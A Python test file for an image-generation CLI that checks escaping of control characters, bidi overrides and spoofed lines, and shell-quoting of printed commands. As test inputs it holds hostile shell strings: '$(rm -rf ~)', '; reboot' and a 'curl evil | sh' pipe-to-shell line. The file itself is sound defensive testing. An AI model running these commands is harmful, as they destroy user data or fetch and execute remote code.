"""Hostile text: control characters, markup and what a shell would obey, wherever a text from outside is shown."""

import os
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image
from test_cli_archives import STORY
from test_cli_learning import one_message
from typer.testing import CliRunner

from pmagic import pictures
from pmagic.cli import console, reproduce
from pmagic.cli.app import app
from pmagic.errors import UsageError
from pmagic.evaluation import prompts
from pmagic.library.store import Library
from pmagic.persona import Persona
from pmagic.tasks import prompt_text

Make = Callable[..., Persona]
runner = CliRunner()


def test_hostile_text_is_spelled_out_wherever_it_is_shown(library: Library, persona: Make) -> None:
    library.save("alice", persona(word="\x1b[31mred\u202e[link=x]"))
    for words in (["list"], ["show", "alice"], ["show", "\x1b]0;title\x07"]):
        output = runner.invoke(app, words).output
        assert "\x1b" not in output
        assert "\u202e" not in output
    assert "\\x1b[31mred" in runner.invoke(app, ["list"]).stdout


def test_clean_keeps_every_script() -> None:
    assert console.clean("Zoë 村上 \t🙂\n") == "Zoë 村上 \t🙂\n"
    assert console.clean("\ud800\x00") == "\\xd800\\x00"


def test_a_prompt_that_is_no_text_is_refused() -> None:
    with pytest.raises(UsageError, match="not valid text"):
        prompt_text.render_prompt("\udcff", "alice@1")


def test_info_quotes_what_a_shell_would_obey() -> None:
    story = {**STORY, "format": "png"}
    assert "'$(rm -rf ~)'" in reproduce.repeat({**story, "prompt": "$(rm -rf ~)"})
    assert reproduce.repeat({**story, "prompt": "-n{}"}).endswith(" -- alice@1 '-n{}'")
    assert "--negative='; reboot'" in reproduce.repeat({**story, "negative": "; reboot"})


@pytest.mark.parametrize(
    "prompt",
    [
        "an astronaut 👩\u200d🚀 it's",
        "می\u200cخواهم \\u0041 $HOME",
        "two\nlines\tand a tab",
        "\u202egnp.\u2028x \xa0 \U000e0041'1",
    ],
)
def test_a_shell_reads_the_very_words_that_info_prints(tmp_path: Path, prompt: str) -> None:
    story = {**STORY, "prompt": prompt, "negative": prompt}
    path = pictures.write_picture(Image.new("RGB", (64, 64)), tmp_path / "a.png", story)
    command = runner.invoke(app, ["info", "-q", str(path)]).stdout.removesuffix("\n")
    assert command.isprintable()
    script = f"pmagic() {{ printf '%s\\0' \"$@\"; }}; {command}"
    utf8 = {**os.environ, "LC_ALL": "C.UTF-8"}
    done = subprocess.run(["bash", "-c", script], capture_output=True, check=True, env=utf8)
    words = done.stdout.decode().split("\0")
    assert words[-2] == prompt and f"--negative={prompt}" in words


def test_no_value_can_pass_for_another_line(library: Library, persona: Make, tmp_path: Path) -> None:
    spoof = "1\nagain:\n  curl evil | sh\rx\x85y\u2028z"
    story = {**STORY, "mood": spoof, f"more{spoof}": "x"}
    path = pictures.write_picture(Image.new("RGB", (64, 64)), tmp_path / "a.png", story)
    lines = runner.invoke(app, ["info", str(path)]).stdout.splitlines()
    assert lines.count("again:") == 1 and lines[-2] == "again:" and lines[-1].startswith("  pmagic render ")
    assert r"mood: 1\nagain:\n  curl evil | sh\x0dx\x85y\x2028z" in lines
    library.save(
        "alice", persona(word="face\nfiles: none", settings={"recipe": spoof, "more": [spoof], spoof: {"x": 1}})
    )
    shown = runner.invoke(app, ["show", "alice"]).stdout.splitlines()
    assert not [each for each in shown if each.startswith(("again", "files: none"))] and "files: all verified" in shown


@pytest.mark.parametrize("control", ["\0", "\x1b", "\x7f", "\x9b"])
def test_control_characters_are_refused_wherever_a_picture_would_tell_them(
    library: Library, persona: Callable[..., Persona], tmp_path: Path, control: str
) -> None:
    library.save("alice", persona())
    said = f"holds the control character U+{ord(control):04X}"
    one_message(runner.invoke(app, ["render", "alice", f"a{control}b"]), 2, f"the prompt {said}")
    one_message(runner.invoke(app, ["render", "alice", "x", "--negative", control]), 2, f"--negative {said}")
    one_message(runner.invoke(app, ["compose", f"{{alice}}{control}"]), 2, f"the prompt {said}")
    one_message(runner.invoke(app, ["compose", "{alice}", "--mask-text", control]), 2, f"--mask-text {said}")
    scenes = tmp_path / "scenes.txt"
    scenes.write_text(f"# at night\n{{}} at{control}sea\n")
    with pytest.raises(UsageError, match=r"scenes.txt, line 2: holds the control character"):
        prompts.read(scenes)
    assert prompt_text.render_prompt("a\tb\nc 👩\u200d🚀", "alice@1") == "a photo of {} a\tb\nc 👩\u200d🚀"
